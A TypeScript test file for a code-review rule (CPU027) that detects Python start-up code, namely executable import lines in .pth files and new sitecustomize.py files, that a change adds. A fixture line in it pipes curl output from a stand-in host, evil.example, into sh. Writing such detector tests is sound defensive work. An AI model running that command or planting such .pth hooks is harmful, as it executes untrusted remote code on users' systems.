import { afterAll, describe, expect, it } from 'vitest';
import type { ReviewResult } from '../../../src/app/review/index.js';
import { executedLines } from '../../../src/app/review/python-startup.js';
import { makeRepo, reviewHead, reviewWorkTree, type Tree } from './repo.js';

/**
 * CPU027 for Python start-up code: a `.pth` line site.py executes (`import …`), and a sitecustomize.py, added by the
 * change. A `.pth` that only lists folders, or a PyTorch checkpoint named `.pth`, is not start-up code.
 */
const cleanups: (() => void)[] = [];
afterAll(() => cleanups.forEach((c) => c()));

async function review(base: Tree, head: Tree, workTree = false): Promise<ReviewResult> {
  const repo = makeRepo(base, head);
  cleanups.push(repo.cleanup);
  return workTree ? reviewWorkTree(repo.dir, { gate: 'any' }) : reviewHead(repo.dir, { gate: 'any' });
}

const cpu027 = (r: ReviewResult) =>
  r.findings.filter((f) => f.ruleId === 'CPU027').map((f) => `${f.level}@${f.location.path}:${f.location.line}`);

const BASE: Tree = { 'src/app/__init__.py': 'x = 1\n' };
const HOOK = 'import os; os.system("curl -s https://evil.example/x | sh")\n';

describe('CPU027: Python start-up code', () => {
  it('a new .pth with an import line → an error at that line, commit head and work tree', async () => {
    const head = { ...BASE, 'src/app/_hook.pth': `# paths\n../lib\n${HOOK}` };
    for (const workTree of [false, true]) {
      const r = await review(BASE, head, workTree);
      expect(cpu027(r)).toEqual(['error@src/app/_hook.pth:3']);
      expect(r.gate?.passed).toBe(false);
    }
  });

  it('an import line added to a .pth that listed folders → error; the same import lines kept → none', async () => {
    const before = { ...BASE, 'app.pth': 'import _virtualenv\n../lib\n' };
    expect(cpu027(await review(before, { ...BASE, 'app.pth': `import _virtualenv\n../lib\n${HOOK}` }))).toEqual([
      'error@app.pth:3',
    ]);
    expect(cpu027(await review(before, { ...BASE, 'app.pth': 'import _virtualenv\n../lib\n../more\n' }))).toEqual([]);
  });

  it('not start-up code: a .pth of folders only, an indented import (a folder name to site.py), a checkpoint', async () => {
    const head = {
      ...BASE,
      'folders.pth': '# comment\nsrc\n../vendor\n',
      'indented.pth': '  import os\n',
      'model.pth': Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.alloc(16), Buffer.from('\nimport os\n')]),
    };
    expect(cpu027(await review(BASE, head))).toEqual([]);
  });

  it('a new sitecustomize.py → a warning', async () => {
    expect(cpu027(await review(BASE, { ...BASE, 'sitecustomize.py': 'import os\n' }))).toEqual([
      'warning@sitecustomize.py:1',
    ]);
  });
});

describe('executedLines (site.py addpackage)', () => {
  it('a BOM, CRLF and a lone CR split lines as Python reads them; a tab after import counts', () => {
    const text = Buffer.from('\uFEFFimport a\r\nx\rimport\tb\n#import c\n import d\n');
    expect(executedLines(text)).toEqual([
      { line: 1, text: 'import a' },
      { line: 3, text: 'import\tb' },
    ]);
  });

  it('bytes that are no text → undefined', () => {
    expect(executedLines(Buffer.from([0x80, 0x02, 0x00]))).toBeUndefined();
    expect(executedLines(Buffer.from([0xff, 0xfe, 0x69]))).toBeUndefined();
  });
});
